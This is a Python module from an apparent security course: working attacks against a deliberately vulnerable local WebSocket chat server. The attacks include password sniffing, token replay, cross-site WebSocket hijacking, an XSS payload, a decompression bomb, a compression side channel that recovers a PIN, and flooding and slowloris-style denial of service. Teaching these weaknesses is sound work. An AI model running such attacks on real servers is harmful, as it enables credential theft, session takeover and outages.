"""What comes of each weakness: attacks on a `WeakChat`, each of which returns what it took.

They run against this machine only, as the server they are made for does. Each succeeds where the
server has its weakness, and comes back with nothing where it hasn't.
"""

import asyncio
import json
import re
import time
import zlib
from contextlib import AsyncExitStack, suppress
from functools import partial
from pathlib import Path

from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed, InvalidHandshake

from course_lib.network import Direction, Link
from course_lib.protocol import ProtocolError, split_frames
from course_lib.resilience.tasks import running
from course_lib.security.weak import COOKIE, PEOPLE, WeakChat

_BLOCK = 100_000
_HIJACK = Path(__file__).with_name("hijack.html")


def dial(chat: WeakChat, url: str = "", **options: object) -> connect:
    """A client's connection, with the trust that the server needs and no more."""
    ssl = None if chat.weak.plain else chat.lab.client_context()
    return connect(url or chat.url, proxy=None, ssl=ssl, max_size=None, **options)  # type: ignore[arg-type]


def login(user: str, password: str = "") -> str:
    """The first message of somebody, by default with their own password."""
    password = password or PEOPLE.get(user, "")
    return json.dumps({"type": "login", "user": user, "password": password})


async def log_in(connection: ClientConnection, user: str, password: str = "") -> None:
    """Come in as somebody; raises ConnectionClosed if the server doesn't believe it."""
    await connection.send(login(user, password))
    await connection.recv()


async def read_the_line(chat: WeakChat, user: str = "ann") -> str:
    """Listen on the line while somebody logs in; gives the password that was on it, or nothing."""
    async with Link("127.0.0.1", chat.port, capture=True) as link:
        url = chat.url.replace(f":{chat.port}/", f":{link.port}/")
        async with dial(chat, url, compression=None) as connection:
            await log_in(connection, user)
        found = re.search(rb'"password": "([^"]*)"', b"".join(unmasked(link)))
        return found[1].decode() if found else ""


def unmasked(link: Link) -> list[bytes]:
    """What clients have said over a link, as far as it can be read.

    The key of a mask stands beside what it masks (RFC 6455, section 5.3): it hides nothing.
    """
    sent = b"".join(each.data for each in link.capture or () if each.direction is Direction.UP)
    _, _, frames = sent.partition(b"\r\n\r\n")
    with suppress(ProtocolError):  # what is encrypted is no frame
        return [frame.payload for frame in split_frames(frames)[0]]
    return []


async def impersonate(chat: WeakChat, user: str = "ann") -> str:
    """Say that one is somebody, with a wrong password; gives their notes, or nothing."""
    with suppress(ConnectionClosed):
        async with dial(chat) as connection:
            await log_in(connection, user, "a guess")
            return await _notes(connection)
    return ""


async def replay_from_log(chat: WeakChat, parameter: str = "token") -> str:
    """Come in with what stands in the URLs of the server's access log; gives the owner's notes.

    A single-use "ticket" stands there, too, but was used by then.
    """
    for found in re.findall(rf"{parameter}=(\S+)", "\n".join(chat.log)):
        if notes := await _take(chat, f"{chat.url}?{parameter}={found}"):
            return notes
    return ""


async def wipe(chat: WeakChat, user: str = "bob") -> int:
    """Delete what all have said, with a login that is good and no right to it; gives how much it was."""
    before = len(chat.said)
    async with dial(chat) as connection:
        await log_in(connection, user)
        await connection.send(json.dumps({"type": "clear"}))
        await _notes(connection)  # answered after it
    return before - len(chat.said)


def hijacking_page(chat: WeakChat) -> str:
    """A page for another origin: in a browser that is logged in, it shows the owner's notes."""
    return _HIJACK.read_text(encoding="utf-8").replace("URL", json.dumps(chat.url))


async def forge_origin(chat: WeakChat, origin: str, user: str = "ann") -> str:
    """What a page of that origin takes: somebody's notes, with the cookie that a browser adds."""
    cookie = {"Cookie": f"{COOKIE}={chat.session(user)}"}
    return await _take(chat, origin=origin, additional_headers=cookie)


async def _take(chat: WeakChat, url: str = "", **options: object) -> str:
    with suppress(InvalidHandshake, ConnectionClosed):
        async with dial(chat, url, **options) as connection:
            return await _notes(connection)
    return ""


INJECTED = "<img src=x onerror=\"document.querySelector('h1').textContent='taken over'\">"
"""A message that is a program, where the page takes it for HTML."""


async def inject(chat: WeakChat, text: str = INJECTED) -> str:
    """Say HTML; gives what the others are told. What their pages make of it, a browser shows."""
    async with dial(chat) as connection:
        await log_in(connection, "bob")
        await connection.send(json.dumps({"type": "say", "text": text}))
        while (said := json.loads(await connection.recv())).get("type") != "said":
            pass
        return str(said["text"])


def bomb(size: int = 100_000_000) -> bytes:
    """A compressed message, as RFC 7692 (section 7.2.1) has it, that inflates to `size` bytes."""
    squeeze = zlib.compressobj(9, wbits=-15)
    pieces = [squeeze.compress(b"a" * _BLOCK) for _ in range(size // _BLOCK)]
    end = squeeze.flush(zlib.Z_SYNC_FLUSH).removesuffix(b"\x00\x00\xff\xff")
    return b"".join(pieces) + end


async def drop_bomb(chat: WeakChat, size: int = 100_000_000) -> int:
    """Send a small message that inflates; gives the bytes that the server took for it, or 0."""
    payload = await asyncio.to_thread(bomb, size)
    with suppress(ConnectionClosed):
        async with dial(chat) as connection:
            await log_in(connection, "bob")
            compressed = bool(connection.protocol.extensions)
            _send_raw(connection, payload, compressed=compressed)
            await _notes(connection)
            return size if compressed else 0
    return 0


def _send_raw(connection: ClientConnection, payload: bytes, *, compressed: bool) -> None:
    """Write a text frame whose payload is what it is; the mask's key is zero."""
    head = bytes([0xC1 if compressed else 0x81, 0x80 | 127]) + len(payload).to_bytes(8, "big")
    connection.transport.write(head + bytes(4) + payload)


async def read_lengths(chat: WeakChat, user: str = "ann", digits: int = 6) -> str:
    """Find out somebody's PIN from nothing but how long the answers on the line are.

    The attacker chooses what the victim's page looks for, and sees the encrypted line. A guess that
    repeats what stands in the same message is compressed away: the answer is shorter. Where the last
    digit repeats others of the PIN, two guesses may be equally short, and it gives nothing.
    """
    async with Link("127.0.0.1", chat.port, capture=True) as link:
        url = chat.url.replace(f":{chat.port}/", f":{link.port}/")
        async with dial(chat, url, compression="deflate") as victim:
            await log_in(victim, user)
            known = ["pin="]
            for _ in range(digits):
                guesses = [each + digit for each in known for digit in "0123456789"]
                sizes = {each: await _size(victim, link, each) for each in guesses}
                # Two may be as short as each other: the digits after them show which is right.
                known = [each for each in guesses if sizes[each] == min(sizes.values())]
                if len(known) > 5:
                    return ""  # all are as long: there is nothing to see
    return known[0] if len(known) == 1 else ""


async def _size(victim: ClientConnection, link: Link, guess: str) -> int:
    """How long the answer is, summed over texts around the guess.

    Deflate writes bits and the line carries bytes: a guess that is two bits shorter shows in some
    of the sums only.
    """
    before = link.counts.bytes_down
    for padding in ("", "q", "qz", "qzx", "qzxk", "qzxkv", "qzxkvj", "qzxkvjy"):
        await victim.send(json.dumps({"type": "find", "text": f"{guess}{padding}"}))
        await victim.recv()
    return link.counts.bytes_down - before


async def flood(chat: WeakChat, messages: int = 2000, user: str = "bob", text: str = "spam") -> int:
    """Say as much as possible at once; gives how many messages the server passed on."""
    passed_on = 0
    with suppress(ConnectionClosed):
        async with dial(chat) as connection:
            await log_in(connection, user)
            async with running(partial(_say, connection, messages, text)):
                while passed_on < messages:
                    passed_on += json.loads(await connection.recv()).get("type") == "said"
    return passed_on


async def _say(connection: ClientConnection, messages: int, text: str) -> None:
    for number in range(messages):
        await connection.send(json.dumps({"type": "say", "text": f"{text} {number}"}))


async def read_nothing(chat: WeakChat, messages: int = 1200) -> int:
    """Be there while others talk, and don't read; gives how many messages were kept for that.

    Each has 12 kB on the wire, so that they don't all fit into the buffers of the two systems.
    """
    kept = 0
    with suppress(ConnectionClosed):
        async with dial(chat) as idle:
            await log_in(idle, "ann")
            await flood(chat, messages, text="é" * 1900)
            while kept < messages:
                kept += json.loads(await idle.recv()).get("type") == "said"
    return kept


async def latencies(
    connection: ClientConnection, count: int = 20, pause: float = 0.05
) -> list[float]:
    """Seconds that each answer takes somebody who came in before, and asks every `pause` seconds."""
    found = []
    for _ in range(count):
        asked = time.perf_counter()
        await _notes(connection)
        found.append(time.perf_counter() - asked)
        await asyncio.sleep(pause)
    return found


async def hold_handshakes(chat: WeakChat, count: int = 100, seconds: float = 2.0) -> int:
    """Begin handshakes and never finish them; gives how many the server still holds afterwards."""
    async with AsyncExitStack() as stack:
        held = []
        for _ in range(count):
            with suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", chat.port)
                stack.callback(writer.close)
                writer.write(
                    b"GET /chat HTTP/1.1\r\nHost: 127.0.0.1\r\n" if chat.weak.plain else b"\x16"
                )
                held.append(reader)
        still = await asyncio.gather(*(_open_after(reader, seconds) for reader in held))
        return sum(still)


async def _open_after(reader: asyncio.StreamReader, seconds: float) -> bool:
    try:
        async with asyncio.timeout(seconds):
            await reader.read()
    except TimeoutError:
        return True
    except OSError:
        return False
    return False


async def _notes(connection: ClientConnection) -> str:
    await connection.send(json.dumps({"type": "notes"}))
    while (said := json.loads(await connection.recv())).get("type") != "notes":
        pass
    return str(said["notes"])
